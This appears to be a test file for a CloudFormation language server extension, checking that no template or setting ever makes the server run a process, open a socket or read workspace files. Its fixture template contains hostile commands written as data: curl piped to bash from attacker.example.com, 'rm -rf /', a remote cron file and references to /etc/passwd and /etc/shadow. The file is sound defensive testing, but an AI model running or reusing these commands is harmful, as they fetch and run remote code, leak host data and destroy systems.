/**
 * Safety: nothing in a template or in the workspace configuration is executed or fetched,
 * the workspace's configuration file is not read in an untrusted workspace, and no setting
 * can name a program to run.
 *
 * - In-process: a template full of things that name programs, URLs and other files
 *   (Transform/Include locations, nested stack URLs, macros, dynamic references, UserData
 *   scripts, cfn-init commands) goes through the analysis and every feature with child
 *   processes, sockets, DNS and fetch trapped (test/robustness/trap.ts): nothing is called,
 *   and the only file read is the resource schema.
 * - Through the server: the same with the trap preloaded into `node dist/server.js`,
 *   trusted and untrusted; untrusted, `.cfn-resilience.yaml` is never even looked at;
 *   trusted, it is read (so the trap does see reads), and pointing `configFile` at an
 *   executable only reads it as (invalid) YAML.
 * - package.json: restricted mode declared; the settings are exactly the known ones, none a
 *   program path.
 */
import * as assert from 'assert';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'fs';
import { tmpdir } from 'os';
import { join } from 'path';
import { pathToFileURL } from 'url';
import { analyze } from '../../server/src/core/analyze';
import { hover } from '../../server/src/core/features/hover';
import { definitionLinks, references } from '../../server/src/core/features/navigation';
import { documentSymbols } from '../../server/src/core/features/symbols';
import { referenceLenses } from '../../server/src/core/features/codelens';
import { buildGraphView } from '../../server/src/core/features/graph-view';
import { installTrap, TrapEvent } from './trap';
import { completion } from './fuzz-cases';
import { LspClient, REPO_ROOT, SERVER_JS } from '../bench/lsp-client';

/** A template whose values name programs, URLs and files. */
export const TEMPTING = `AWSTemplateFormatVersion: "2010-09-09"
Transform:
  - AWS::Serverless-2016-10-31
  - MyOwnMacro
  - Name: AWS::Include
    Parameters:
      Location: s3://attacker-bucket/include.yaml
Parameters:
  Cmd:
    Type: String
    Default: "$(curl -s http://169.254.169.254/latest/meta-data/ | sh)"
Resources:
  Nested:
    Type: AWS::CloudFormation::Stack
    Properties:
      TemplateURL: https://attacker.example.com/nested.yaml
  Local:
    Type: AWS::CloudFormation::Stack
    Properties:
      TemplateURL: ../../../../etc/passwd
  Function:
    Type: AWS::Serverless::Function
    Properties:
      Runtime: nodejs22.x
      Handler: index.handler
      CodeUri: /bin/sh
      InlineCode: "require('child_process').execSync('touch /tmp/pwned')"
  Instance:
    Type: AWS::EC2::Instance
    Metadata:
      AWS::CloudFormation::Init:
        config:
          commands:
            pwn:
              command: rm -rf / --no-preserve-root
          files:
            /etc/cron.d/x:
              source: http://attacker.example.com/cron
    Properties:
      ImageId: "{{resolve:ssm:/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64}}"
      UserData:
        Fn::Base64: !Sub |
          #!/bin/bash
          curl http://attacker.example.com/$(hostname) | bash
          \${Cmd}
  Included:
    Fn::Transform:
      Name: AWS::Include
      Parameters:
        Location: https://attacker.example.com/snippet.yaml
  Custom:
    Type: Custom::Thing
    Properties:
      ServiceToken: !Sub arn:aws:lambda:\${AWS::Region}:\${AWS::AccountId}:function:run
      Command: !Ref Cmd
`;

function allFeatures(text: string, fileName: string): void {
  const a = analyze(text, { fileName });
  for (let off = 0; off <= text.length; off += 7) {
    hover(a, off);
    definitionLinks(a, off);
    references(a, off, true);
    completion?.(a, off);
  }
  documentSymbols(a);
  referenceLenses(a);
  buildGraphView(a);
}

describe('safety: nothing is executed or fetched', function () {
  this.timeout(120_000);

  it('the analysis and every feature, on a template naming programs, URLs and files: no process, no socket, no read but the schema', () => {
    // Warm the schema first: its one read is the expected one.
    analyze(TEMPTING, { fileName: 'warm.yaml' });
    const events: TrapEvent[] = [];
    const remove = installTrap((e) => events.push(e));
    try {
      allFeatures(TEMPTING, 'tempting.yaml');
      allFeatures(JSON.stringify({ Resources: { S: { Type: 'AWS::CloudFormation::Stack', Properties: { TemplateURL: 'file:///etc/shadow' } } } }), 'tempting.json');
    } finally {
      remove();
    }
    const outside = events.filter((e) => e.kind !== 'read' || !/schema\.json$/.test(e.detail));
    assert.deepStrictEqual(outside, []);
  });

  it('the trap itself catches a process, a socket and a read (the test can fail)', () => {
    const events: TrapEvent[] = [];
    const remove = installTrap((e) => events.push(e));
    try {
      // eslint-disable-next-line @typescript-eslint/no-require-imports
      assert.throws(() => require('child_process').execFileSync('true'));
      // eslint-disable-next-line @typescript-eslint/no-require-imports
      assert.throws(() => require('https').get('https://example.com'));
      readFileSync(__filename);
    } finally {
      remove();
    }
    assert.deepStrictEqual(
      events.filter((e) => e.kind !== 'read').map((e) => [e.kind, e.what]),
      [
        ['exec', 'child_process.execFileSync'],
        ['network', 'https.get'],
      ],
    );
    assert.ok(events.some((e) => e.kind === 'read' && e.what === 'fs.readFileSync' && e.detail === __filename));
  });
});

describe('safety: the language server, trusted and untrusted', function () {
  this.timeout(120_000);
  let dir: string;
  let folder: string;
  const TRAP = join(__dirname, 'trap.js');

  before(function () {
    if (!existsSync(SERVER_JS)) throw new Error(`${SERVER_JS} is missing: run npm run build first`);
    dir = mkdtempSync(join(tmpdir(), 'bench-safety-'));
    folder = pathToFileURL(dir).href;
    // The configuration turns the unknown-reference rule off: whether it applies shows whether it was read.
    writeFileSync(join(dir, '.cfn-resilience.yaml'), 'rules:\n  reference-unknown-target: off\n');
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  async function session(name: string, trusted: boolean, settings: Record<string, unknown> = {}): Promise<{ events: TrapEvent[]; codes: string[]; client: LspClient }> {
    const log = join(dir, `trap-${name}.log`);
    rmSync(log, { force: true });
    const client = new LspClient({ nodeArgs: ['--require', TRAP], env: { ...process.env, CFN_TRAP_LOG: log }, settings });
    try {
      await client.initialize({ workspaceFolders: [{ uri: folder, name: 'w' }], initializationOptions: { workspaceTrusted: trusted } });
      const uri = `${folder}/tempting.yaml`;
      const text = TEMPTING + '  Broken:\n    Type: AWS::SQS::Queue\n    Properties:\n      QueueName: !Ref Nowhere\n';
      await client.open(uri, text, 'yaml', 1);
      const { publish } = await client.analyzed(uri, 1, 30_000);
      for (let line = 0; line < text.split('\n').length; line += 3) {
        const position = { line, character: 8 };
        await client.request('textDocument/hover', { textDocument: { uri }, position });
        await client.request('textDocument/definition', { textDocument: { uri }, position });
        await client.request('textDocument/completion', { textDocument: { uri }, position }).catch(() => null);
      }
      await client.request('textDocument/documentSymbol', { textDocument: { uri } });
      await client.request('textDocument/codeLens', { textDocument: { uri } });
      await client.request('textDocument/codeAction', { textDocument: { uri }, range: { start: { line: 0, character: 0 }, end: { line: 80, character: 0 } }, context: { diagnostics: publish?.diagnostics ?? [] } });
      await client.request('cfnResilience/graph', { uri }).catch(() => null);
      const events = existsSync(log) ? readFileSync(log, 'utf8').trim().split('\n').filter(Boolean).map((l) => JSON.parse(l) as TrapEvent) : [];
      return { events, codes: (publish?.diagnostics ?? []).map((d) => String(d.code)), client };
    } finally {
      await client.shutdown();
    }
  }

  const insideWorkspace = (e: TrapEvent) => e.kind === 'read' && e.detail.startsWith(dir);

  it('untrusted: no process, no socket, and nothing in the workspace folder is read', async () => {
    const { events, codes, client } = await session('untrusted', false);
    assert.deepStrictEqual(events.filter((e) => e.kind !== 'read'), []);
    assert.deepStrictEqual(events.filter(insideWorkspace), []);
    assert.ok(codes.includes('reference-unknown-target'), `the rule the configuration turns off still reports: ${codes.join(', ')}`);
    assert.deepStrictEqual(client.errors, []);
  });

  it('trusted: the configuration file is read and applied, still no process and no socket', async () => {
    const { events, codes } = await session('trusted', true);
    assert.deepStrictEqual(events.filter((e) => e.kind !== 'read'), []);
    assert.ok(events.some((e) => insideWorkspace(e) && e.detail.endsWith('.cfn-resilience.yaml')), 'the configuration file was read');
    assert.ok(!codes.includes('reference-unknown-target'), codes.join(', '));
  });

  it('a configFile setting naming an executable: nothing runs, the binary is not even read, templates are still analyzed', async () => {
    const { events, codes, client } = await session('executable', true, { configFile: process.execPath });
    assert.deepStrictEqual(events.filter((e) => e.kind !== 'read'), []);
    assert.ok(events.some((e) => e.kind === 'read' && e.detail === process.execPath && /stat/.test(e.what)), 'looked at');
    assert.ok(!events.some((e) => e.kind === 'read' && e.detail === process.execPath && /read|open/i.test(e.what)), 'but not read');
    assert.ok(codes.includes('reference-unknown-target'), codes.join(', '));
    assert.ok(client.logs.some((l) => l.includes(process.execPath) && /is not read/.test(l)), 'and the reason is logged');
  });

  it('a configFile setting naming a small file that is not YAML configuration: read as data, its problems logged', async () => {
    const script = join(dir, 'script.sh');
    writeFileSync(script, '#!/bin/sh\ntouch /tmp/bench-safety-pwned\n');
    const { events, codes, client } = await session('script', true, { configFile: script });
    assert.deepStrictEqual(events.filter((e) => e.kind !== 'read'), []);
    assert.ok(!existsSync('/tmp/bench-safety-pwned'));
    assert.ok(events.some((e) => e.kind === 'read' && e.detail === script && /readFileSync/.test(e.what)));
    assert.ok(codes.includes('reference-unknown-target'), codes.join(', '));
    assert.ok(client.logs.some((l) => l.includes(script)), client.logs.join('\n'));
  });
});

describe('safety: package.json', () => {
  const pkg = JSON.parse(readFileSync(join(REPO_ROOT, 'package.json'), 'utf8')) as {
    capabilities: { untrustedWorkspaces: { supported: unknown; restrictedConfigurations?: string[]; description?: string } };
    contributes: { configuration: { properties: Record<string, { type: string; scope?: string }> } };
  };

  it('declares restricted mode in untrusted workspaces, restricting the configuration file setting', () => {
    const u = pkg.capabilities.untrustedWorkspaces;
    assert.strictEqual(u.supported, 'limited');
    assert.ok(u.restrictedConfigurations?.includes('cfnResilience.configFile'));
    assert.match(u.description ?? '', /not read/);
  });

  it('has exactly the settings reviewed here, none naming a program to run', () => {
    // Adding a setting? Review it: a setting must never name a program, a module or a URL to load.
    const reviewed: Record<string, string> = {
      'cfnResilience.enable': 'boolean',
      'cfnResilience.rules': 'object',
      'cfnResilience.configFile': 'string', // a YAML data file, read (trusted workspaces only), never run
      'cfnResilience.maxFileSize': 'number',
      'cfnResilience.trace.server': 'string',
    };
    const props = pkg.contributes.configuration.properties;
    assert.deepStrictEqual(Object.fromEntries(Object.entries(props).map(([k, v]) => [k, v.type])), reviewed);
    for (const k of Object.keys(props)) assert.doesNotMatch(k, /(path|command|executable|binary|program|module|server\.(run|path)|url)$/i, k);
  });
});
